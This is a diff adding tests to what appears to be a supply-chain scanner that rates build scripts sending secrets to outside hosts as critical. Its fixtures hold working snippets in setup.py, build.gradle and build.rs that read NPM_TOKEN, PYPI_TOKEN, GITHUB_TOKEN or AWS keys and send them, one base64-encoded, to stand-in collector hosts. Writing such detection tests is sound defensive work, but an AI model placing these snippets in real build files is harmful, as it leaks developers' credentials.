@@ -134,6 +134,24 @@ setup(name="pkg", ext_modules=[Extension("pkg._speedups", ["src/speedups.c"])])`
     expect(buildFinding(added('Makefile', 'build:\n\tgo build ./...\n\tcurl -s "https://collector.telemetry-hub.org/?k=$(AWS_SECRET_ACCESS_KEY)" >/dev/null'))).toMatchObject({ severity: 'critical', line: 3 });
   });
 
+  it('reads a secret held by a name of an earlier line and put into the URL a build script fetches as sent (critical)', () => {
+    expect(buildFinding(added('setup.py', 'import os\nimport urllib.request\nfrom setuptools import setup\ntoken = os.environ["NPM_TOKEN"]\nname = "x"\nurllib.request.urlopen(f"https://stats.pkgmetrics.net/c?t={token}")\nsetup(name=name)'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('build.gradle', 'def tok = System.getenv("GITHUB_TOKEN")\ndef base = "x"\nnew URL("https://collect.buildstats.dev/p?k=${tok}").text'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('build.rs', 'fn main() {\n    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();\n    let _ = std::process::Command::new("curl").arg(format!("https://collect.buildstats.dev/k?v={}", key)).status();\n}'))).toMatchObject({ severity: 'critical' });
+    // Through a name assigned from it, and through a URL built with it and fetched on a later line.
+    expect(buildFinding(added('setup.py', 'import base64, os, urllib.request\ntoken = os.environ["PYPI_TOKEN"]\nenc = base64.b64encode(token.encode()).decode()\nurl = "https://stats.pkgmetrics.net/c?t=%s" % enc\nurllib.request.urlopen(url)'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('a held secret sent to its own service, as a header, to a local host, or a name no secret is given, is not a secret sent', () => {
+    const setup = (body: string) => buildFinding(added('setup.py', `import os, urllib.request\n${body}`));
+    expect(setup('token = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://api.github.com/repos/acme/x/releases?access_token={token}")')).toMatchObject({ severity: 'medium' });
+    expect(setup('t = os.environ["NPM_TOKEN"]\nurllib.request.urlretrieve("https://cdn.sdkhost.io/sdk.tgz?t=1", "sdk.tgz")')).toMatchObject({ severity: 'medium' });
+    expect(setup('version = os.environ.get("SDK_VERSION", "1")\nurllib.request.urlretrieve(f"https://cdn.sdkhost.io/sdk-{version}.tgz", "sdk.tgz")')).toMatchObject({ severity: 'medium' });
+    expect(setup('token = os.environ["NPM_TOKEN"]\nurllib.request.urlopen(f"http://localhost:4873/-/whoami?t={token}")')).toMatchObject({ severity: 'medium' });
+    expect(setup('name = "NPM_TOKEN"\nurllib.request.urlopen(f"https://docs.tools.io/env/{name}")')).toMatchObject({ severity: 'medium' });
+    expect(buildFinding(added('build.gradle', 'def tok = System.getenv("MAVEN_TOKEN")\nnew URL("https://repo.acme-mirror.io/x.jar").openConnection().setRequestProperty("Authorization", "Bearer ${tok}")'))).toMatchObject({ severity: 'medium' });
+  });
+
   it('a token in the URL of its own service, in a header, to a local host, or a variable that is no secret, is not a secret sent', () => {
     expect(buildFinding(added('Makefile', 'vendor:\n\tcurl -fsSL -o x.sh "https://raw.githubusercontent.com/acme/private/main/x.sh?token=$(GITHUB_TOKEN)"'))).toBeNull();
     expect(buildFinding(added('Makefile', 'fetch:\n\tcurl -fsSL -H "PRIVATE-TOKEN: $(CI_JOB_TOKEN)" "https://gitlab.acme.io/api/v4/projects/1/packages/generic/x/1.0/x.tgz" -o x.tgz'))).toBeNull();
